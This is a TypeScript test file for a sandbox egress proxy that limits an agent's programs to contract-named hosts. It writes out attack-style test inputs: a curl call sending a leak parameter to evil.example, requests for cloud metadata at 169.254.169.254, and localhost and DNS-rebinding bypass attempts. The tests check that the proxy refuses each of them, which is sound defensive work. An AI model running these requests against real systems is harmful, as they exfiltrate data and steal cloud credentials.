import type {LookupAddress} from 'node:dns'
import {createServer, type RequestListener} from 'node:http'
import {type AddressInfo, createServer as createSocketServer} from 'node:net'
import {expect, onTestFinished, test} from 'vitest'
import {testNeeding} from '../../../testing/needs.js'
import {openToolScene} from '../../../testing/tool-scene.js'
import {hasSandbox} from '../../kit/sandbox.js'
import {runToolWhere} from '../tools/run-program.js'
import type {Resolve} from './host-gate.js'
import {openProxy} from './open-proxy.js'

const boxed = testNeeding({program: 'bwrap', works: hasSandbox}, 'curl')
const NAMES: Readonly<Record<string, readonly string[]>> = {
  'good.example': ['127.0.0.1'],
  'evil.example': ['127.0.0.1'],
  'metadata.example': ['169.254.169.254'],
  'two.example': ['127.0.0.1', '10.0.0.1'],
}

async function serve(listener: RequestListener = (request, response) => response.end(`hello ${request.headers.host}`)) {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    listener(request, response)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return {port: (server.address() as AddressInfo).port, asked}
}

/** A resolver of our own, which counts how often each name was asked for. */
function resolver(names: Readonly<Record<string, readonly string[]>> = NAMES) {
  const asked: string[] = []
  const resolve: Resolve = (name, _options, done) => {
    asked.push(name)
    const found: LookupAddress[] = (names[name] ?? []).map((address) => ({address, family: 4}))
    done(found.length === 0 ? Object.assign(new Error('ENOTFOUND'), {code: 'ENOTFOUND'}) : null, found)
  }
  return {resolve, asked}
}

async function openOnline(hosts: readonly string[], files: Readonly<Record<string, string>> = {}) {
  const {resolve, asked} = resolver()
  const scene = await openToolScene({
    tools: [runToolWhere(hasSandbox, resolve)],
    contract: {commands: ['curl', 'node', 'sh', 'env'], hosts},
    files,
  })
  return {...scene, asked}
}

boxed(
  'a program reaches the hosts of its contract, by HTTP and by a tunnel, and the turn has heard of them',
  async () => {
    const {port} = await serve()
    const {call} = await openOnline(['good.example', `127.0.0.1:${port}`])
    const plain = await call('run', {command: `curl -sS http://good.example:${port}/a`})
    expect(plain.done?.text).toBe(`exit 0\n--- output\nhello good.example:${port}`)
    expect(plain.done?.line).toBe(`ran curl -sS http://good.example:${port}/a: exit 0; reached good.example:${port}`)
    expect(plain.done?.taint).toBe(`run curl -sS http://good.example:${port}/a`)
    expect(plain.done?.outside).toEqual([`fetch good.example:${port}`])
    expect(plain.done?.note).toMatch(/ran in a sandbox; reached good\.example/)
    const tunnel = await call('run', {command: `curl -sSp http://127.0.0.1:${port}/b`})
    expect(tunnel.done?.text).toBe(`exit 0\n--- output\nhello 127.0.0.1:${port}`)
    const {done} = await call('run', {command: 'sh -c "echo quiet"'})
    expect([done?.taint, done?.outside, done?.note]).toEqual([undefined, [], 'sh -c "echo quiet" ran in a sandbox'])
  },
)

boxed('every other host is refused and told, and nobody is asked on its behalf', async () => {
  const {port, asked: served} = await serve()
  const {call, asked} = await openOnline(['good.example:1', 'metadata.example'])
  const evil = await call('run', {command: `curl -sS http://evil.example:${port}/?leak=1`})
  expect(evil.done?.text).toMatch(/mcos: evil\.example:\d+ is not among the contract's hosts/)
  expect(evil.done?.line).toMatch(/; refused evil\.example:\d+$/)
  expect(evil.done?.taint).toBeUndefined()
  for (const url of [
    `http://good.example:${port}/`,
    `http://127.0.0.1:${port}/`,
    `http://localhost:${port}/`,
    `http://[::1]:${port}/`,
    `http://2130706433:${port}/`,
  ])
    await call('run', {command: `curl -sS -g --noproxy "" ${url}`})
  await call('run', {command: `curl -sSp https://evil.example:${port}/`})
  expect(asked).toEqual([])
  const cloud = await call('run', {command: 'curl -sS http://metadata.example/latest/meta-data'})
  expect(cloud.done?.text).toMatch(/169\.254\.169\.254 is not public, and the contract does not name it/)
  expect(served).toEqual([])
})

boxed('around the proxy there is nothing: no route, no resolver, no neighbour\u2019s port', async () => {
  const {port, asked} = await serve()
  const {tell} = await openOnline(['good.example', `127.0.0.1:${port}`])
  expect(await tell('run', {command: `curl -sS --noproxy "*" http://127.0.0.1:${port}/`})).toMatch(/^exit 7\n/)
  expect(await tell('run', {command: 'curl -sS -m 5 --noproxy "*" http://1.1.1.1/'})).toMatch(/^exit 7\n/)
  expect(await tell('run', {command: `curl -sS --noproxy "*" http://good.example:${port}/`})).toMatch(/^exit 6\n/)
  expect(asked).toEqual([])
})

boxed('with a network a program sees no token and no file whose name says that it is a secret', async () => {
  const files = {'workspaces/donna/.env': 'KEY=1\n', 'wiki/server.pem': 'x\n', 'wiki/page.md': 'x\n'}
  const {tell, scene} = await openOnline(['good.example'], files)
  const shown = await tell('run', {command: `sh -c 'ls -A; env; find ${scene.dir}/wiki'`})
  expect(shown).not.toMatch(/MCOS_TOKEN|\.env$|server\.pem/m)
  expect(shown).toMatch(/^MCOS_AGENT=donna$/m)
})

boxed(
  'what goes through node\u2019s own sockets is judged the same, and the program\u2019s end is its own',
  async () => {
    const {port} = await serve()
    const {tell} = await openOnline(['good.example', `127.0.0.1:${port}`])
    const script = `require('http').request({host:'127.0.0.1',port:3128,method:'CONNECT',path:process.argv[1]})
    .on('connect',(r,s)=>{console.log(r.statusCode);if(r.statusCode!==200)process.exit(3);s.on('data',(d)=>{console.log(String(d).split('\\\\n').pop());process.exit(5)});s.write('GET / HTTP/1.1\\\\r\\\\nhost: x\\\\r\\\\n\\\\r\\\\n')}).end()`
    const oneLine = script.replaceAll('\n', ' ')
    expect(await tell('run', {command: `node -e "${oneLine}" good.example:${port}`})).toMatch(
      /^exit 5\n--- output\n200\nhello x/,
    )
    expect(await tell('run', {command: `node -e "${oneLine}" evil.example:${port}`})).toMatch(
      /^exit 3\n--- output\n403/,
    )
    expect(await tell('run', {command: 'sh -c "kill -9 $$"'})).toMatch(/^exit 137/)
    expect(await tell('run', {command: 'curl --nosuchflag'})).toMatch(/^exit 2\n/)
  },
)

test('the address that was judged is the one that is connected to: a second look-up never happens', async () => {
  const {port, asked: served} = await serve()
  const answers = [['127.0.0.1'], ['10.9.9.9']]
  const lookUps: string[] = []
  const resolve: Resolve = (name, _options, done) => {
    lookUps.push(name)
    done(
      null,
      (answers.shift() ?? []).map((address) => ({address, family: 4})),
    )
  }
  const gate = {whyClosed: () => null, opensAddress: (address: string) => address === `127.0.0.1:${port}`}
  const proxy = await openProxy({gate, resolve})
  onTestFinished(() => proxy.close())
  expect(await through(proxy.dir, `GET http://rebind.example:${port}/ HTTP/1.1\r\nhost: other\r\n\r\n`)).toMatch(
    /^HTTP\/1\.1 200 OK[\s\S]*hello rebind\.example/,
  )
  expect(lookUps).toEqual(['rebind.example'])
  expect(await through(proxy.dir, `GET http://rebind.example:${port}/ HTTP/1.1\r\nhost: x\r\n\r\n`)).toMatch(/ 403 /)
  expect(served).toHaveLength(1)
})

test('one closed address among a name\u2019s addresses closes it', async () => {
  const {port} = await serve()
  const gate = {whyClosed: () => null, opensAddress: (address: string) => address.startsWith('127.')}
  const proxy = await openProxy({gate, resolve: resolver().resolve})
  onTestFinished(() => proxy.close())
  expect(await through(proxy.dir, `CONNECT two.example:${port} HTTP/1.1\r\n\r\n`)).toMatch(/ 403 [\s\S]*10\.0\.0\.1/)
})

test.each([
  ['a path alone', 'GET / HTTP/1.1\r\nhost: good.example\r\n\r\n'],
  ['another protocol', 'GET ftp://good.example/ HTTP/1.1\r\nhost: x\r\n\r\n'],
  ['a user in the address', 'GET http://u:p@good.example/ HTTP/1.1\r\nhost: x\r\n\r\n'],
  ['no port', 'CONNECT good.example HTTP/1.1\r\n\r\n'],
  ['a port that is none', 'CONNECT good.example:70000 HTTP/1.1\r\n\r\n'],
  ['two hosts', 'CONNECT good.example@evil.example:80 HTTP/1.1\r\n\r\n'],
  ['no HTTP at all', '\x05\x01\x00'],
])('%s goes nowhere', async (_, said) => {
  const proxy = await openProxy({gate: {whyClosed: () => null, opensAddress: () => true}, resolve: resolver().resolve})
  onTestFinished(() => proxy.close())
  expect(await through(proxy.dir, said)).not.toMatch(/ 200 /)
  expect(proxy.ways()).toEqual({reached: [], refused: []})
})

test('bytes and connections have an end', async () => {
  const {port} = await serve((_, response) => response.end('x'.repeat(200_000)))
  const limits = {bytes: 100_000, open: 2, total: 2, idleMs: 5_000}
  const gate = {whyClosed: () => null, opensAddress: () => true}
  const proxy = await openProxy({gate, resolve: resolver().resolve, limits})
  onTestFinished(() => proxy.close())
  const ask = () => through(proxy.dir, `GET http://good.example:${port}/ HTTP/1.1\r\nhost: x\r\n\r\n`)
  expect((await ask()).length).toBeLessThan(200_000)
  expect(await ask()).toMatch(/too much went through the network already/)
})

test('it lies in a folder of our own, and is gone when it is closed', async () => {
  const server = createSocketServer()
  onTestFinished(() => void server.close())
  const proxy = await openProxy({gate: {whyClosed: () => null, opensAddress: () => true}})
  const {statSync, existsSync} = await import('node:fs')
  expect(statSync(proxy.dir).mode & 0o077).toBe(0)
  proxy.close()
  expect(existsSync(proxy.dir)).toBe(false)
})

async function through(dir: string, said: string): Promise<string> {
  const {connect} = await import('node:net')
  return new Promise((resolve) => {
    let heard = ''
    const socket = connect(`${dir}/proxy`, () => socket.write(said))
    socket.setTimeout(1_500, () => socket.destroy())
    socket.on('data', (chunk) => {
      heard += chunk.toString()
    })
    socket.on('error', () => undefined)
    socket.on('close', () => resolve(heard))
  })
}
